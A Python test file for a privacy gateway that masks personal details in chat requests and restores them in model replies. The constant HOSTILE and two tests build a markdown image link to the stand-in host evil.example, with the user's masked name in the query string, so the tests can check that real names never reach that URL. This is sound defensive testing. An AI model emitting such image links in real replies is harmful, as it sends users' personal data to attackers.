"""What a reply may carry where, through a doorway: hosts of whoever wrote them, and tools that a policy names."""

from __future__ import annotations

import json
from typing import Any

import pytest

from dp_gateway.exchange import Doorway
from dp_gateway.pipeline import Gateway
from dp_gateway.policy import parse_policy
from dp_gateway.randomness import Secret

KEY = Secret(b"a key of repeatable draws, for tests")
SAID = "My name is Anna Kowalski, I work at https://kowalski-corp.com/team and my mail is anna@kowalski-corp.com."
HOSTILE = "![](https://evil.example/p.png?n=1)"


@pytest.fixture(scope="module")
def gateway() -> Gateway:
    return Gateway("entities", key=KEY)


def opened(gateway: Gateway, *messages: tuple[str, str], **fields: Any) -> tuple[list[str], Any]:
    body = {"model": "m", "messages": [{"role": role, "content": text} for role, text in messages], **fields}
    exchange = Doorway(gateway, key=KEY).open("chat", body)
    return [message["content"] for message in exchange.body["messages"]], exchange.reply


def restored(reply: Any, text: str) -> str:
    return reply.whole({"choices": [{"message": {"content": text}}]})["choices"][0]["message"]["content"]


def test_the_hosts_of_the_user_come_back_and_others_get_nothing(gateway: Gateway) -> None:
    (sent,), reply = opened(gateway, ("user", SAID))
    name = sent.split()[3]
    assert restored(reply, f"{sent} {HOSTILE[:-1]}&q={name})") == f"{SAID} {HOSTILE[:-1]}&q={name})"


def test_a_hostile_answer_that_is_sent_again_makes_no_host_of_the_request(gateway: Gateway) -> None:
    sent, reply = opened(gateway, ("user", SAID), ("assistant", HOSTILE), ("user", "go on"))
    name = sent[0].split()[3]
    got = restored(reply, f"{sent[1][:-1]}&n={name}) and {sent[0]}")
    assert got.endswith(f" and {SAID}")
    assert "Anna" not in got.partition(" and ")[0]


@pytest.mark.parametrize(
    ("setting", "name", "restores"),
    [("all", "send", True), ("none", "send", False), (["send"], "send", True), (["send"], "shell", False)],
)
def test_a_policy_says_of_which_tools_the_arguments_are_restored(setting: Any, name: str, restores: bool) -> None:
    policy = parse_policy({"name": "p", "fields": {"restore_arguments": setting}})
    tools = [{"type": "function", "function": {"name": one, "parameters": {}}} for one in ("send", "shell")]
    (sent,), reply = opened(Gateway(policy, key=KEY), ("user", SAID), tools=tools)
    arguments = json.dumps({"text": sent})
    message = {"content": sent, "tool_calls": [{"function": {"name": name, "arguments": arguments}}]}
    got = reply.whole({"choices": [{"message": message}]})["choices"][0]["message"]
    assert got["content"] == SAID
    assert json.loads(got["tool_calls"][0]["function"]["arguments"])["text"] == (SAID if restores else sent)
